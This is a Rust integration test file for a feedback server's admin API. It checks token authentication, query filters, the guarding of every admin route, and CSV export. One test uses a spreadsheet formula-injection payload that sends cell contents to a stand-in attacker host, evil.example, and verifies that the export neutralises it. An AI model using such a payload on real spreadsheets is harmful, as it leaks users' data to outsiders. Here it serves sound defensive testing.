//! GET /api/v1/admin/feedback (JSON and CSV): disabled without a token, 401 with a wrong one, filters with the right one.

use medvirk_server::config::AllowedOrigins;
use medvirk_server::routes::api_routes;
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;

use crate::common::*;

const CHALLENGE: &str = r#"Bearer realm="medvirk-admin""#;
const INVALID: &str = r#"Bearer realm="medvirk-admin", error="invalid_token""#;

#[tokio::test]
async fn disabled_without_a_token() {
    let t = TestApp::with(Options {
        admin_token: None,
        origins: AllowedOrigins::Any,
        ..Options::default()
    })
    .await;
    let res = check(
        &t,
        "disabled",
        Req::get(ADMIN).header("authorization", "Bearer anything"),
        err(404, "admin_disabled", None),
    )
    .await;
    assert!(
        res.json()["error"]["message"]
            .as_str()
            .unwrap()
            .contains("MEDVIRK_ADMIN_TOKEN")
    );
}

#[tokio::test]
async fn auth() {
    let t = TestApp::new().await;
    let bearer = format!("Bearer {TOKEN}");
    let cases = [
        (
            "no header",
            Req::get(ADMIN),
            err(401, "unauthorized", None),
            Some(CHALLENGE),
        ),
        (
            "wrong token",
            Req::get(ADMIN).header("authorization", "Bearer nope"),
            err(401, "unauthorized", None),
            Some(INVALID),
        ),
        (
            "prefix of token",
            Req::get(ADMIN).header("authorization", &bearer[..bearer.len() - 1]),
            err(401, "unauthorized", None),
            Some(INVALID),
        ),
        (
            "basic scheme",
            Req::get(ADMIN).header("authorization", &format!("Basic {TOKEN}")),
            err(401, "unauthorized", None),
            Some(INVALID),
        ),
        // A token in the URL is refused even when right: URLs end up in logs.
        (
            "token in query",
            Req::get(&format!("{ADMIN}?token={TOKEN}")),
            err(401, "unauthorized", None),
            Some(CHALLENGE),
        ),
        (
            "lower-case scheme",
            Req::get(ADMIN).header("authorization", &format!("bearer {TOKEN}")),
            ok(200),
            None,
        ),
        (
            "right token",
            Req::get(ADMIN).header("authorization", &bearer),
            ok(200),
            None,
        ),
    ];
    for (name, req, expect, challenge) in cases {
        let res = check(&t, name, req, expect).await;
        assert_eq!(res.header("www-authenticate"), challenge, "{name}");
    }
    let res = check(
        &t,
        "query with token",
        Req::get(&format!("{ADMIN}?token=x")).header("authorization", &bearer),
        err(400, "invalid_query", Some("token")),
    )
    .await;
    assert!(!res.text().contains(TOKEN));
    let res = check(
        &t,
        "no-store",
        Req::get(ADMIN).header("authorization", &bearer),
        ok(200),
    )
    .await;
    assert_eq!(res.header("cache-control"), Some("no-store"));
    assert_eq!(res.json(), serde_json::json!({ "items": [], "count": 0 }));
}

#[tokio::test]
async fn filters() {
    let t = TestApp::new().await;
    for (i, widget) in ["byggesak", "byggesak", "bibliotek"].iter().enumerate() {
        let mut v =
            serde_json::from_str::<serde_json::Value>(&submission(&uuid(i as u32), 3)).unwrap();
        v["widgetId"] = (*widget).into();
        check(
            &t,
            widget,
            Req::json("POST", FEEDBACK, v.to_string()),
            ok(201),
        )
        .await;
    }
    let now = OffsetDateTime::now_utc();
    let today = now.date().to_string();
    let yesterday = (now.date().previous_day().unwrap()).to_string();
    let tomorrow = (now.date().next_day().unwrap()).to_string();
    let hour_ago = (now - time::Duration::HOUR).format(&Rfc3339).unwrap();
    let in_an_hour = (now + time::Duration::HOUR).format(&Rfc3339).unwrap();
    let received = t.rows("").await[0]["receivedAt"]
        .as_str()
        .unwrap()
        .to_owned();
    for (query, count) in [
        ("?widgetId=byggesak".to_owned(), 2),
        ("?widgetId=bibliotek".to_owned(), 1),
        ("?widgetId=ukjent".to_owned(), 0),
        ("?widgetId=".to_owned(), 3),
        (format!("?from={today}&to={today}"), 3),
        (format!("?to={yesterday}"), 0),
        (format!("?from={tomorrow}"), 0),
        (
            format!("?from={hour_ago}&to={in_an_hour}&widgetId=byggesak"),
            2,
        ),
        (format!("?to={hour_ago}"), 0),
        // Both bounds are inclusive, to the microsecond.
        (
            format!("?widgetId=byggesak&from={received}&to={received}"),
            1,
        ),
    ] {
        let rows = t.rows(&query.replace('+', "%2B")).await;
        assert_eq!(rows.len(), count, "{query}");
    }
    let bearer = format!("Bearer {TOKEN}");
    for (query, field) in [
        ("?from=ig%C3%A5r", "from"),
        ("?to=2026-13-01", "to"),
        (&*format!("?from={tomorrow}&to={yesterday}"), "from"),
    ] {
        let req = Req::get(&format!("{ADMIN}{query}")).header("authorization", &bearer);
        check(&t, query, req, err(400, "invalid_query", Some(field))).await;
    }
}

/// Every admin route, with or without a body, is guarded before anything else happens.
#[tokio::test]
async fn every_admin_route_is_guarded() {
    let admin_routes: Vec<_> = api_routes()
        .into_iter()
        .filter(|r| r.path.starts_with("/api/v1/admin/"))
        .collect();
    assert_eq!(admin_routes.len(), 8, "{admin_routes:?}");
    let disabled = TestApp::with(Options {
        admin_token: None,
        ..Options::default()
    })
    .await;
    let t = TestApp::new().await;
    for route in admin_routes {
        let path = route.path.replace("{receipt}", "BR-2026-0001");
        // A body that would fail to parse: the guard must answer first.
        let req = || Req::json(route.method, &path, "{not json");
        let name = format!("{} {}", route.method, route.path);
        check(
            &disabled,
            &name,
            req().header("authorization", &format!("Bearer {TOKEN}")),
            err(404, "admin_disabled", None),
        )
        .await;
        let res = check(&t, &name, req(), err(401, "unauthorized", None)).await;
        assert_eq!(res.header("www-authenticate"), Some(CHALLENGE), "{name}");
        let res = check(
            &t,
            &name,
            req().header("authorization", "Bearer wrong"),
            err(401, "unauthorized", None),
        )
        .await;
        assert_eq!(res.header("www-authenticate"), Some(INVALID), "{name}");
    }
}

/// The CSV export: spreadsheet headers, a BOM, both separators, and formulas from the public
/// neutralised, read back with core's own CSV reader.
#[tokio::test]
async fn csv_export_neutralises_formulas() {
    use medvirk_core::csv_out::is_formula_like;
    use medvirk_core::directory::csv::parse_csv;
    use medvirk_server::routes::admin::CSV_COLUMNS;

    let t = TestApp::new().await;
    let attack = r#"=HYPERLINK("https://evil.example/?d="&A1,"Klikk her")"#;
    let comments = [
        attack,
        "+47 99 99 99 99",
        "  @SUM(1+1)",
        "Bra; men \"treg\"\nandre linje",
    ];
    for (n, comment) in comments.iter().enumerate() {
        let mut v = example_json("submission-minimal.json");
        v["responseId"] = uuid(n as u32 + 1).into();
        v["comment"] = (*comment).into();
        check(
            &t,
            comment,
            Req::json("POST", FEEDBACK, v.to_string()),
            ok(201),
        )
        .await;
    }
    for (sep, delim) in [("", ';'), ("semicolon", ';'), ("comma", ',')] {
        let path = format!("{ADMIN}.csv?sep={sep}");
        let res = check(
            &t,
            &path,
            admin(Req::get(&path)),
            Expect {
                headers: &[
                    ("content-type", Some("text/csv; charset=utf-8")),
                    ("cache-control", Some("no-store")),
                ],
                ..ok(200)
            },
        )
        .await;
        // Named with the local (Norwegian/Swedish) date, as the admin area's downloads.
        let today = medvirk_server::admin_ui::local_today();
        assert_eq!(
            res.header("content-disposition").unwrap(),
            format!("attachment; filename=\"medvirk-feedback-{today}.csv\"")
        );
        let text = res.text();
        assert!(text.starts_with('\u{feff}'), "BOM for Excel");
        assert!(text.contains("\r\n"));
        assert_eq!(
            text.lines().next().unwrap().trim_start_matches('\u{feff}'),
            CSV_COLUMNS.join(&delim.to_string())
        );
        let records = parse_csv(&text).unwrap();
        assert_eq!(records[0].fields, CSV_COLUMNS);
        assert_eq!(records.len(), 1 + comments.len());
        let column = CSV_COLUMNS.iter().position(|c| *c == "comment").unwrap();
        let exported: Vec<&str> = records[1..]
            .iter()
            .map(|r| r.fields[column].as_str())
            .collect();
        assert_eq!(
            exported,
            [
                format!("'{attack}").as_str(),
                "'+47 99 99 99 99",
                "'  @SUM(1+1)",
                "Bra; men \"treg\"\nandre linje",
            ],
            "sep={sep}"
        );
        for record in &records {
            assert_eq!(record.fields.len(), CSV_COLUMNS.len());
            for cell in &record.fields {
                assert!(!is_formula_like(cell) || cell.starts_with('\''), "{cell}");
            }
        }
        assert_eq!(records[1].fields[0], uuid(1));
    }
    let filtered = admin(Req::get(&format!("{ADMIN}.csv?widgetId=nope")));
    let res = check(&t, "filtered", filtered, ok(200)).await;
    assert_eq!(parse_csv(&res.text()).unwrap().len(), 1, "header only");
    for (name, req, expect) in [
        (
            "tab separator",
            admin(Req::get(&format!("{ADMIN}.csv?sep=tab"))),
            err(400, "invalid_query", Some("sep")),
        ),
        (
            "unknown parameter",
            admin(Req::get(&format!("{ADMIN}.csv?token={TOKEN}"))),
            err(400, "invalid_query", Some("token")),
        ),
        (
            "bad date",
            admin(Req::get(&format!("{ADMIN}.csv?from=igår"))),
            err(400, "invalid_query", Some("from")),
        ),
        (
            "no token",
            Req::get(&format!("{ADMIN}.csv")),
            err(401, "unauthorized", None),
        ),
    ] {
        check(&t, name, req, expect).await;
    }
}
